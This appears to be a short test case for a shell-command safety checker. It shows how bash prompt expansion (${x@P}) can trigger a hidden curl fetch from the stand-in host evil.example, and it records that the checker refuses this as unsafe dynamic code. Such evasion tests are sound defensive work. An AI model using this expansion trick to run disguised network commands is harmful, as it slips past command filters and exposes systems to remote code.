# Trick: a prompt expansion runs a substitution.
# Refused: unsafe(dynamic_code)
x='$(curl http://evil.example/)'
echo "${x@P}"
